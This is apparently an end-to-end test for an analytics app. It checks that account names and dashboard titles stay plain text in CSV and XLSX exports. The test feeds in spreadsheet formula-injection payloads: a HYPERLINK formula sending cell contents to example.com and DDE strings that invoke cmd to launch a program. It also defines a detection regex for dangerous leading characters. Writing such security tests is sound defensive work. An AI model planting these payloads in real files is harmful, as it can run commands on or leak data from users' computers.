import { inflateRawSync } from "node:zlib";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { ask, base, send, Stage } from "./browser";

const stage = new Stage();
beforeAll(() => stage.start());
afterAll(() => stage.stop());

const run = Date.now().toString(36);
/** What a spreadsheet would run if it were let. */
const NAMES = [
  `=HYPERLINK("https://example.com/?"&A1,"${run}")`,
  `+1+cmd|' /C calc'!A0 ${run}`,
  `-2+3+cmd|' /C calc'!A0 ${run}`,
  `@SUM(1+1)*cmd|' /C calc'!A0 ${run}`,
  `\t=1+1 ${run}`,
  `＝1+1 ${run}`,
  `",=1+1,"${run}`,
];

/** The files within a zip, which a workbook is. */
function unzip(bytes: Buffer): Record<string, string> {
  const found: Record<string, string> = {};
  let at = bytes.readUInt32LE(bytes.lastIndexOf("PK\x05\x06", undefined, "latin1") + 16);
  while (bytes.toString("latin1", at, at + 4) === "PK\x01\x02") {
    const [method, size] = [bytes.readUInt16LE(at + 10), bytes.readUInt32LE(at + 20)];
    const [name, extra, comment] = [28, 30, 32].map((n) => bytes.readUInt16LE(at + n)) as [number, number, number];
    const local = bytes.readUInt32LE(at + 42);
    const from = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(from, from + size);
    found[bytes.toString("utf8", at + 46, at + 46 + name)] = (
      method === 8 ? inflateRawSync(packed) : packed
    ).toString();
    at += 46 + name + extra + comment;
  }
  return found;
}

/** The cells of a CSV (RFC 4180). */
function cells(text: string): string[] {
  const found: string[] = [];
  const cell = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gy;
  for (let part = cell.exec(text); part !== null && part[0] !== ""; part = cell.exec(text))
    found.push(part[1]?.replaceAll('""', '"') ?? part[2] ?? "");
  return found;
}

const isNumber = (text: string) => /^-?\d+(\.\d+)?(e-?\d+)?$/i.test(text);
const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;

async function download(page: Page, path: string): Promise<Buffer> {
  const answer = await page.request.get(`${base}/api/v1${path}`);
  if (!answer.ok()) throw new Error(`${path} answered ${answer.status()}: ${await answer.text()}`);
  return answer.body();
}

it("leaves names that are formulas words, in every file that a spreadsheet opens", async () => {
  const { page, context, problems } = await stage.open("/accounts");
  const { secret: key } = await send<{ secret: string }>(page, "/keys", { name: `formulas ${run}`, scope: "ingest" });
  const batch = NAMES.flatMap((name, n) => [
    {
      type: "group",
      messageId: `${run}-g${n}`,
      userId: `${run}-u${n}`,
      groupId: `${run}-${n}`,
      traits: { name, mrr: 90_000 + n },
    },
    {
      type: "track",
      messageId: `${run}-t${n}`,
      userId: `${run}-u${n}`,
      event: "login",
      context: { groupId: `${run}-${n}` },
      properties: { note: name },
    },
  ]);
  const sent = await page.request.post(`${base}/v1/batch`, {
    data: { batch },
    headers: { authorization: `Basic ${Buffer.from(`${key}:`).toString("base64")}` },
  });
  expect(sent.ok(), await sent.text()).toBe(true);
  const known = () => ask<{ total: number }>(page, `/accounts?active=any&limit=1&q=${run}`).then((it) => it.total);
  await expect.poll(known, { timeout: 20_000 }).toBeGreaterThanOrEqual(NAMES.length - 1);

  // On the page they are words as well.
  await page.goto(`/accounts?active=any&q=${run}`);
  await page.getByRole("link", { name: NAMES[0], exact: true }).first().waitFor();

  const sql = `SELECT account_id, name, name AS "=1+1" FROM accounts WHERE account_id LIKE '${run}-%' ORDER BY 1`;
  const tiles = [{ id: "q", kind: "table", title: `=1+1 ${run}`, sql }];
  const made = await send<{ id: string }>(page, "/dashboards", { definition: { title: `@SUM(1) ${run}`, tiles } });
  const files = [`/exports/accounts/FORMAT?active=any&q=${run}`, `/dashboards/${made.id}/tiles/q/export/FORMAT`];
  for (const path of files) {
    const csv = (await download(page, path.replace("FORMAT", "csv"))).toString().replace(/^\uFEFF/, "");
    const all = cells(csv);
    expect(
      all.filter((it) => DANGEROUS.test(it) && !isNumber(it)),
      path,
    ).toEqual([]);
    expect(all, path).toContain(`'${NAMES[0]}`);
    const sheets = Object.entries(unzip(await download(page, path.replace("FORMAT", "xlsx"))));
    const worksheets = sheets.filter(([name]) => name.includes("worksheets/"));
    expect(worksheets.length, path).toBeGreaterThan(0);
    for (const [name, xml] of worksheets) {
      // No formula, no link, and every text is written as one.
      expect(xml, name).not.toMatch(/<f[\s>]|<hyperlink|t="str"/);
      for (const cell of xml.match(/<c [^>]*>.*?<\/c>/gs) ?? [])
        if (cell.includes("HYPERLINK") || cell.includes("cmd|")) expect(cell).toMatch(/t="inlineStr"/);
    }
    expect(
      worksheets.some(([, xml]) => xml.includes("cmd|")),
      path,
    ).toBe(true);
    for (const [name] of sheets) expect(name).not.toMatch(/externalLink|vbaProject|connections/);
  }
  expect(problems).toEqual([]);
  await context.close();
});
